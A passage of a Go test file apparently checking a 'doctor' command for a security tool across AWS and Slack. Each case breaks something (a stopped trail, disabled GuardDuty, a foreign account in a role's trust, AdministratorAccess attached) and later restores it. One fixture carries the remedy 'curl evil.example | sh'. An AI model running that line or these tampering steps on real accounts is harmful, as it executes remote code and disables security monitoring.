			return in.aws.edit("GET /heads", func(s string) string { return strings.ReplaceAll(s, "COMPLIANCE", "GOVERNANCE") })
		}},
	},
	{
		{"the token lacks a scope", "slack.scopes", "lacks groups:read", "Reinstall", func(in *installation) func() {
			return in.slack.head("X-Oauth-Scopes", strings.Join(doctor.Scopes[:len(doctor.Scopes)-1], ","))
		}},
		{"the channel is archived", "slack.channel", "is archived", "unarchive", slackSays("conversations.info", `"is_archived":false`, `"is_archived":true`)},
		{"somebody has left", "slack.people", "deactivated", "remove who has left", slackSays("users.info", `"deleted":false`, `"deleted":true`)},
		{"too few can vote", "slack.quorum", "can vote now", "slack.people", follows},
		{"the signing secret was never put", "hub.secret", "the signing secret has never been put", "put-secret-value", func(in *installation) func() {
			return in.aws.answerIf("GetSecretValue", "SigningSecret", http.StatusBadRequest, `{"__type":"ResourceNotFoundException","message":"no value"}`)
		}},
		{"the address is asked without a secret", "address.slack", "no signing secret", "SLACK_SIGNING_SECRET", follows},
		{"a webhook has no key", "hub.secret", "webhook soar has no key", "put-secret-value", func(in *installation) func() {
			in.secret("WebhookKeysArn", "siem=9f8e7d6c5b4a")
			return func() { in.secret("WebhookKeysArn", "soar=9f8e7d6c5b4a") }
		}},
		{"the functions carry another configuration", "hub.version", "another configuration", "make build", func(in *installation) func() {
			url := in.code([]byte("slack: {}\n"))
			return in.aws.answer("GET /2015-03-31/functions/"+in.functions["ExecutorFunction"], http.StatusOK, fmt.Sprintf(`{"Configuration":{"State":"Active"},"Code":{"Location":%q}}`, url))
		}},
		{"the zones found something", "hub.checked", "roles: the role killswitch-restorer can't be entered", "executorcheckfailed", func(in *installation) func() {
			in.checked(time.Now(), approvals.Trouble{Check: "roles", Found: "the role killswitch-restorer can't be entered", Mend: "curl evil.example | sh"})
			return func() { in.checked(time.Now()) }
		}},
		{"alarms tell nobody", "hub.alarm_actions", "NotContained", "AlarmTopicArn", func(in *installation) func() { return in.alarms(false, in.alarm, "OK") }},
		{"service control policies are not enabled", "organization.policies", "not enabled", "enable-policy-type", func(in *installation) func() {
			return in.aws.edit("ListRoots", func(s string) string { return strings.ReplaceAll(s, "SERVICE_CONTROL_POLICY", "TAG_POLICY") })
		}},
		{"an account has left the organization", "organization.accounts", "aws.accounts.staging", "correct the IDs", func(in *installation) func() {
			return in.aws.edit("ListAccounts", func(s string) string { return strings.ReplaceAll(s, in.accounts[1], "777777777777") })
		}},
		{"whose new number can't be entered", "members.stackset", "777777777777", "update-stack-set", follows},
		{"and has no roles", "member.roles", "there is no role killswitch-responder", "template members", follows},
		{"nor rules", "member.rules", "there is no rule", "template members", follows},
		{"nor a trail", "member.trail", "there is none", "create-trail", follows},
		{"nor GuardDuty", "member.guardduty", "there is none in us-east-1", "create-detector", follows},
		{"and lies nowhere", "member.policies", "can't be read", "organizations:ListParents", follows},
		{"accounts that join get nothing", "members.joining", "automatic deployment", "--auto-deployment", func(in *installation) func() {
			return in.aws.edit("DescribeStackSet", func(s string) string { return strings.Replace(s, "<Enabled>true", "<Enabled>false", 1) })
		}},
	},
	{
		{"the bot is not in the channel", "slack.channel", "not in #security", "/invite", slackSays("conversations.info", `"is_member":true`, `"is_member":false`)},
		{"somebody is not in the channel", "slack.present", "cem", "invite them", slackSays("conversations.members", `"U01CEM"`, `"U01OTHER"`)},
		{"then too few are left for a deletion", "slack.quorum", "delete_key needs 2 of responders beside who asks, and of all 2", "slack.present", follows},
		{"something else answers at the address", "address.forged", "answers 200", "nothing but Killswitch", func(in *installation) func() {
			server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
			before := in.url
			in.url = server.URL
			return func() { in.url = before; server.Close() }
		}},
		{"and nothing of Slack's", "address.slack", "answers 200 to what Slack asks", "Request URL", follows},
		{"the tamper protection is another", "organization.tamper", "not the one of this version", "killswitch template organization", func(in *installation) func() {
			return in.aws.edit("DescribePolicy", func(s string) string { return strings.ReplaceAll(s, "KillswitchStay", "KillswitchGo") })
		}},
		{"the trust of a role names a stranger", "member.roles", "the trust of killswitch-responder is otherwise", "update-stack-set", ofProd(
			func(ctx context.Context, client *iam.Client) error {
				return retrust(ctx, client, HubAccount, "666666666666")
			},
			func(ctx context.Context, client *iam.Client) error {
				return retrust(ctx, client, "666666666666", HubAccount)
			})},
		{"a role may do anything", "member.roles", "AdministratorAccess attached", "update-stack-set", ofProd(
			func(ctx context.Context, client *iam.Client) error {
				_, err := client.AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: aws.String(responder), PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")})
				return err
			},
			func(ctx context.Context, client *iam.Client) error {
				_, err := client.DetachRolePolicy(ctx, &iam.DetachRolePolicyInput{RoleName: aws.String(responder), PolicyArn: aws.String("arn:aws:iam::aws:policy/AdministratorAccess")})
				return err
			})},
		{"a role may too little", "member.roles", "killswitch-restorer is otherwise: it lacks iam:PutRolePolicy", "update-stack-set", ofProd(
			func(ctx context.Context, client *iam.Client) error {
				return repolicy(ctx, client, "iam:PutRolePolicy", "iam:PutNothing")
			},
			func(ctx context.Context, client *iam.Client) error {
				return repolicy(ctx, client, "iam:PutNothing", "iam:PutRolePolicy")
			})},
		{"Control Tower denies", "member.policies", "GR_IAM_CHANGE, on", "ArnNotLike", func(in *installation) func() {
			return in.attach("aws-guardrails-x", in.accounts[0], `{"Version":"2012-10-17","Statement":[{"Sid":"GR_IAM_CHANGE","Effect":"Deny","Action":["iam:PutRolePolicy"],"Resource":["*"],"Condition":{"ArnNotLike":{"aws:PrincipalARN":"arn:aws:iam::*:role/AWSControlTowerExecution"}}}]}`)
		}},
		{"a member's rule is switched off", "member.rules", "switched off", "template members", func(in *installation) func() {
			cfg := in.scene.aws.Member(in.t, in.accounts[0])
			return in.switchOff(cfg, "ContainmentChangesRule")
		}},
		{"a trail is stopped", "member.trail", "all is stopped", "start-logging", func(in *installation) func() {
			cfg := in.scene.aws.Member(in.t, in.accounts[1])
			cfg.Region = "us-east-1"
			client, name := cloudtrail.NewFromConfig(cfg), aws.String("all")
			_, err := client.StopLogging(in.t.Context(), &cloudtrail.StopLoggingInput{Name: name})
			in.must(err)
			return func() {
				_, err := client.StartLogging(in.t.Context(), &cloudtrail.StartLoggingInput{Name: name})
				in.must(err)
			}
		}},
		{"GuardDuty is switched off", "member.guardduty", "switched off in eu-west-1", "--enable", func(in *installation) func() {
			client := guardduty.NewFromConfig(in.scene.aws.Member(in.t, in.accounts[0]))
			listed, err := client.ListDetectors(in.t.Context(), nil)
			in.must(err)
			enable := func(on bool) {
				_, err := client.UpdateDetector(in.t.Context(), &guardduty.UpdateDetectorInput{DetectorId: &listed.DetectorIds[0], Enable: &on})
				in.must(err)
			}
			enable(false)
			return func() { enable(true) }
		}},
		{"a stack of the set is out of date", "members.stackset", "OUTDATED", "update-stack-set", func(in *installation) func() {
			return in.aws.edit("ListStackInstances", func(s string) string { return strings.Replace(s, "<Status>CURRENT", "<Status>OUTDATED", 1) })
		}},
		{"this machine's clock is off", "slack.clock", "off Slack's", "timedatectl", func(in *installation) func() {
			return in.slack.head("Date", time.Now().Add(-10*time.Minute).UTC().Format(http.TimeFormat))
		}},
	},
}

// retrust puts one account for another into the trust of the responder.
func retrust(ctx context.Context, client *iam.Client, old, replaced string) error {
	out, err := client.GetRole(ctx, &iam.GetRoleInput{RoleName: aws.String(responder)})
	if err != nil {
		return err
	}
	trust, err := url.PathUnescape(*out.Role.AssumeRolePolicyDocument)
	if err != nil {
		return err
	}
	_, err = client.UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: aws.String(responder), PolicyDocument: aws.String(strings.ReplaceAll(trust, old, replaced))})
	return err
}

// repolicy puts one action for another into the policy of the restorer.
func repolicy(ctx context.Context, client *iam.Client, old, replaced string) error {
	out, err := client.GetRolePolicy(ctx, &iam.GetRolePolicyInput{RoleName: aws.String(restorer), PolicyName: aws.String("member")})
	if err != nil {
		return err
	}
	document, err := url.PathUnescape(*out.PolicyDocument)
	if err != nil {
		return err
	}
	_, err = client.PutRolePolicy(ctx, &iam.PutRolePolicyInput{RoleName: aws.String(restorer), PolicyName: aws.String("member"), PolicyDocument: aws.String(strings.ReplaceAll(document, old, replaced))})
	return err
}

// switchOff disables a rule, until it is taken back.
func (in *installation) switchOff(cfg aws.Config, id string) func() {
	client := eventbridge.NewFromConfig(cfg)
	listed, err := client.ListRules(in.t.Context(), nil)
	in.must(err)
	i := slices.IndexFunc(listed.Rules, func(r rules.Rule) bool { return strings.Contains(*r.Name, id) })
	if i < 0 {
		in.t.Fatalf("no rule %s", id)
	}
	_, err = client.DisableRule(in.t.Context(), &eventbridge.DisableRuleInput{Name: listed.Rules[i].Name})
	in.must(err)
	return func() {
		_, err := client.EnableRule(in.t.Context(), &eventbridge.EnableRuleInput{Name: listed.Rules[i].Name})
		in.must(err)
	}
}
